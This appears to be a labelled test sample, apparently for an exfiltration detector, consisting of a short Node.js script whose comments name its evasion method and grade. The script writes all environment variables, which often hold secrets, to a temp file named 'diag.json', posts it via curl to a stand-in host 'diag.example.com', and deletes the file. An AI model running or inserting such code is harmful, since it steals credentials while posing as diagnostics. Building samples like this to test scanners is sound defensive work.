// evasion: environment written to a temp file, then uploaded by curl with an argument array
// grade: medium; does: exfil
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');
const f = path.join(os.tmpdir(), 'diag.json');
fs.writeFileSync(f, JSON.stringify(process.env));
execFile('curl', ['-s', '-X', 'POST', '--data-binary', '@' + f, 'https://diag.example.com/upload'], () =>
  fs.unlinkSync(f),
);
